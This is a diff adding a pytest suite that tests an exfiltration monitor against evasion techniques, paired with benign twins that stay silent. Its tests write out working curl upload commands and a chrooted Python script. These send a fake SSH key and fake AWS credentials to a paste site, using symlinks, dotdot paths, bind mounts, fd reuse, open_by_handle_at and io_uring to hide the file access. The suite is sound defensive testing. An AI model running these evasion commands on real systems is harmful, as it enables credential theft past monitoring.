@@ -1,0 +1,270 @@
+"""Evasion classes of issue 12, against the real monitor: an attacker who has read our code
+spells the same data another way. One section per class; each test runs real tools, asserts
+what the telemetry says about the object (its real path, inode and bytes) and, where the plain
+spelling alerts, the same alert for this one; and that no token of the fake secret reaches the
+output. Everyday twins stay silent."""
+
+import os
+import subprocess
+
+import pytest
+
+from harness import Scenario, assert_silent, check_service_saw, execute, get, is_action
+from harness import paths
+from harness.config import HTTPS_PORT
+
+from test_scenarios import run_attack, wait_for_evidence
+
+WAIT_S = 20.0
+PASTE = "paste.ee"
+UPLOAD = f"curl -sk --resolve {PASTE}:8443:127.0.0.1 -T {{}} https://{PASTE}:8443/"
+
+
+def upload_scenario(name, shell, **extra):
+    return Scenario(name, "alert", shell, technique="T1567.003", domain=PASTE, uploads=True,
+                    **extra)
+
+
+def key_of(fake_home):
+    return fake_home.files[".ssh/id_ed25519"]
+
+
+def assert_no_secret(monitor, secret_file):
+    """No line of the fake secret's body (nor the whole of it) appears anywhere in the output."""
+    text = monitor.output.read_text(errors="replace")
+    tokens = [line for line in secret_file.read_text().splitlines() if len(line) >= 16]
+    assert tokens, "the fake secret has no token to look for"
+    leaked = [t for t in tokens if t in text]
+    assert not leaked, f"{len(leaked)} line(s) of {secret_file.name} reached the output"
+
+
+def opened(records, key, process_name, requested=None):
+    """The file-open records of `key` (by its real path and inode) by `process_name`."""
+    inode = os.stat(key).st_ino
+    found = [r for r in records
+             if is_action("file-open", {"process.name": process_name, "file.path": str(key)})(r)]
+    assert found, (f"no file-open of {key} by {process_name}: "
+                   f"{[get(r, 'file.path') for r in records if get(r, 'event.action') == 'file-open' and get(r, 'process.name') == process_name]}")
+    assert all(str(get(r, "file.inode")) == str(inode) for r in found)
+    if requested is not None:
+        assert any(get(r, "exfilwatch.file.requested_path", "") == requested for r in found), \
+            [get(r, "exfilwatch.file.requested_path") for r in found]
+    return found
+
+
+def summarised(records, key, process_name):
+    """A file-summary of `key` under its real path with every byte of it read."""
+    size = os.stat(key).st_size
+    found = [r for r in records
+             if is_action("file-summary", {"process.name": process_name, "file.path": str(key)})(r)
+             and get(r, "exfilwatch.file.bytes_read", 0) >= size]
+    assert found, f"no file-summary of {key} ({size} bytes) by {process_name}"
+    return found
+
+
+def attack(monitor, standin, fake_home, tmp_path, name, shell, **extra):
+    scenario = upload_scenario(name, shell, **extra)
+    return run_attack(scenario, monitor, standin, fake_home, tmp_path)
+
+
+# --- The plain spelling: the reference every other spelling must match ----------------------
+
+def test_plain_upload_alerts(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    attack(monitor, standin, fake_home, tmp_path, "plain", UPLOAD.format(key))
+    records = monitor.records()
+    opened(records, key, "curl", requested=str(key))
+    summarised(records, key, "curl")
+    assert_no_secret(monitor, key)
+
+
+# --- Class: files known by what the kernel opened, not by the string a process typed ---------
+
+def test_symlink_to_key(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    link = tmp_path / "notes.txt"
+    link.symlink_to(key)
+    attack(monitor, standin, fake_home, tmp_path, "symlink", UPLOAD.format(link))
+    records = monitor.records()
+    opened(records, key, "curl", requested=str(link))
+    summarised(records, key, "curl")
+    assert_no_secret(monitor, key)
+
+
+def test_dotdot_through_ignored_prefix(monitor, standin, fake_home, tmp_path):
+    # "/usr/lib/" opens are not reported (shared libraries); the prefix is matched on the
+    # resolved path, so climbing out of it names the key.
+    key = key_of(fake_home)
+    spelling = f"/usr/lib/../..{key}"
+    attack(monitor, standin, fake_home, tmp_path, "dotdot", UPLOAD.format(spelling))
+    records = monitor.records()
+    opened(records, key, "curl", requested=spelling)
+    summarised(records, key, "curl")
+    assert_no_secret(monitor, key)
+
+
+def test_proc_self_root(monitor, standin, fake_home, tmp_path):
+    # "/proc/" is an ignored prefix too; /proc/self/root/... is the same file.
+    key = key_of(fake_home)
+    spelling = f"/proc/self/root{key}"
+    attack(monitor, standin, fake_home, tmp_path, "proc-root", UPLOAD.format(spelling))
+    records = monitor.records()
+    opened(records, key, "curl", requested=spelling)
+    summarised(records, key, "curl")
+    assert_no_secret(monitor, key)
+
+
+def test_bind_mount_of_key_directory(monitor, standin, fake_home, tmp_path):
+    # The key's directory bound at a harmless name in a private mount namespace: the file is
+    # named where it lives, not where it is bound.
+    key = key_of(fake_home)
+    bound = tmp_path / "assets"
+    bound.mkdir()
+    spelling = bound / key.name
+    shell = (f"unshare --mount --propagation private bash -c "
+             f"'mount --bind {key.parent} {bound} && {UPLOAD.format(spelling)}'")
+    attack(monitor, standin, fake_home, tmp_path, "bind-mount", shell)
+    records = monitor.records()
+    opened(records, key, "curl", requested=str(spelling))
+    summarised(records, key, "curl")
+    assert_no_secret(monitor, key)
+
+
+def test_chroot_names_the_key_in_the_task_view(monitor, standin, fake_home, tmp_path):
+    # A process chrooted above the fake HOME sees the key as /home/.ssh/id_ed25519: the walk
+    # stops at the task's root, and that name still classifies as a key.
+    key = key_of(fake_home)
+    assert key == tmp_path / "home" / ".ssh" / "id_ed25519"
+    script = (
+        "import encodings.idna, os, socket, ssl\n"
+        "c = ssl._create_unverified_context()\n"
+        f"os.chroot({str(tmp_path)!r}); os.chdir('/')\n"
+        "d = open('home/.ssh/id_ed25519', 'rb').read()\n"
+        f"s = c.wrap_socket(socket.create_connection(('127.0.0.1', {HTTPS_PORT})), "
+        f"server_hostname='{PASTE}')\n"
+        f"s.sendall(b'POST / HTTP/1.1\\r\\nHost: {PASTE}\\r\\nContent-Length: %d\\r\\n\\r\\n' "
+        "% len(d) + d)\n"
+        "s.recv(100)\n")
+    script_file = tmp_path / "chrooted.py"
+    script_file.write_text(script)
+    attack(monitor, standin, fake_home, tmp_path, "chroot", f"{paths.PYTHON} {script_file}")
+    inode = os.stat(key).st_ino
+    records = monitor.records()
+    found = [r for r in records
+             if is_action("file-open", {"file.path": "/home/.ssh/id_ed25519"})(r)
+             and str(get(r, "process.name")).startswith("python3")]
+    assert found and all(str(get(r, "file.inode")) == str(inode) for r in found)
+    assert any(get(r, "exfilwatch.file.requested_path") == "home/.ssh/id_ed25519" for r in found)
+    assert_no_secret(monitor, key)
+
+
+@pytest.fixture(scope="module")
+def handle_open(tmp_path_factory):
+    source = paths.TOOLS_DIR / "handle_open.c"
+    binary = tmp_path_factory.mktemp("handle_open") / "handle_open"
+    done = subprocess.run(["gcc", "-O2", "-Wall", "-o", str(binary), str(source)],
+                          capture_output=True, text=True, timeout=120)
+    if done.returncode != 0:
+        pytest.fail(f"cannot compile {source}:\n{done.stderr[-3000:]}", pytrace=False)
+    return binary
+
+
+def test_open_by_handle_at(monitor, standin, fake_home, tmp_path, handle_open):
+    # No path on the open at all: the record names the file from the opened file itself.
+    key = key_of(fake_home)
+    shell = (f"{handle_open} {key} | curl -sk --resolve {PASTE}:8443:127.0.0.1 "
+             f"--data-binary @- https://{PASTE}:8443/")
+    attack(monitor, standin, fake_home, tmp_path, "open-by-handle", shell)
+    records = monitor.records()
+    found = opened(records, key, "handle_open")
+    assert any(not get(r, "exfilwatch.file.requested_path") for r in found), \
+        "no file-open record came from open_by_handle_at (it names no path)"
+    summarised(records, key, "handle_open")
+    assert_no_secret(monitor, key)
+
+
+def test_fd_reused_after_close(monitor, standin, fake_home, tmp_path):
+    # fd 3 is a harmless file, closed, then the key: /dev/fd/3 (an ignored /dev/ prefix) is
+    # reopened by curl and named by what it is now.
+    key = key_of(fake_home)
+    harmless = tmp_path / "readme.txt"
+    harmless.write_text("nothing to see\n" * 20)
+    # (`; true`: curl runs as bash's child, not exec'd in place of the shell that opened fd 3)
+    shell = (f"exec 3<{harmless}; cat <&3 >/dev/null; exec 3<&-; exec 3<{key}; "
+             + UPLOAD.format("/dev/fd/3") + "; true")
+    attack(monitor, standin, fake_home, tmp_path, "fd-reuse", shell)
+    records = monitor.records()
+    opened(records, key, "curl", requested="/dev/fd/3")
+    summarised(records, key, "curl")
+    assert not [r for r in records
+                if is_action("file-summary", {"process.name": "curl", "file.path": str(harmless)})(r)]
+    assert_no_secret(monitor, key)
+
+
+def test_symlink_with_key_name_to_harmless_file_is_silent(monitor, standin, fake_home, tmp_path):
+    # The twin: a link that only looks like a key (a name under ~/.ssh) to an ordinary file.
+    harmless = tmp_path / "motd.txt"
+    harmless.write_text("welcome to the build host\n" * 10)
+    decoy = fake_home.path / ".ssh" / "id_backup"
+    decoy.symlink_to(harmless)
+    scenario = Scenario("decoy-link", "silent", UPLOAD.format(decoy), domain=PASTE, uploads=True)
+    execute(scenario, fake_home, tmp_path, HTTPS_PORT)
+    check_service_saw(scenario, standin)
+    wait_for_evidence(monitor, scenario, standin)
+    monitor.stop()
+    records = monitor.records()
+    assert [r for r in records
+            if is_action("file-open", {"process.name": "curl", "file.path": str(harmless),
+                                       "exfilwatch.file.requested_path": str(decoy)})(r)]
+    assert_silent(records)
+
+
+def test_library_reached_through_dotdot_stays_unreported(monitor, tmp_path):
+    # The other side of matching prefixes on the resolved path: a library named through a
+    # harmless-looking path is still a library, counted but not reported.
+    library = "/usr/lib/os-release"
+    spelling = f"/tmp/..{library}"
+    marker = tmp_path / "marker.txt"
+    marker.write_text("x\n")
+    done = subprocess.run(["/bin/sh", "-c", f"cat {spelling} {marker} > /dev/null"], timeout=30)
+    assert done.returncode == 0
+    monitor.wait_for(is_action("file-open", {"file.path": str(marker)}), WAIT_S, "the marker's open")
+    monitor.stop()
+    assert not [r for r in monitor.records()
+                if get(r, "event.action") == "file-open" and get(r, "file.path") == library]
+
+
+# --- Class: every way of reading counts (io_uring) --------------------------------------------
+
+@pytest.fixture(scope="module")
+def uring_read(tmp_path_factory):
+    source = paths.TOOLS_DIR / "uring_read.c"
+    binary = tmp_path_factory.mktemp("uring_read") / "uring_read"
+    done = subprocess.run(["gcc", "-O2", "-Wall", "-o", str(binary), str(source), "-luring"],
+                          capture_output=True, text=True, timeout=120)
+    if done.returncode != 0:
+        pytest.fail(f"cannot compile {source} (liburing-dev comes with scripts/setup):\n"
+                    f"{done.stderr[-3000:]}", pytrace=False)
+    return binary
+
+
+def test_io_uring_open_and_reads(monitor, standin, fake_home, tmp_path, uring_read):
+    # Opened with IORING_OP_OPENAT (the key) and OPENAT2 (the AWS credentials), each read whole
+    # once with READ, READV, READ_FIXED and SPLICE: no open(2) or read(2) at all. The key's
+    # bytes go on to a paste site through a pipe.
+    key = key_of(fake_home)
+    aws = fake_home.files[".aws/credentials"]
+    shell = (f"{uring_read} {key} {aws} | curl -sk --resolve {PASTE}:8443:127.0.0.1 "
+             f"--data-binary @- https://{PASTE}:8443/")
+    attack(monitor, standin, fake_home, tmp_path, "io-uring", shell)
+    records = monitor.records()
+    for path in (key, aws):
+        found = opened(records, path, "uring_read")
+        assert any(not get(r, "exfilwatch.file.requested_path") for r in found)
+        size = os.stat(path).st_size
+        summaries = [r for r in records
+                     if is_action("file-summary", {"process.name": "uring_read", "file.path": str(path)})(r)]
+        assert summaries, f"no file-summary of {path}"
+        assert get(summaries[-1], "exfilwatch.file.bytes_read") == 4 * size, \
+            f"{path.name}: {get(summaries[-1], 'exfilwatch.file.bytes_read')} bytes counted, 4 x {size} read"
+    assert_no_secret(monitor, key)
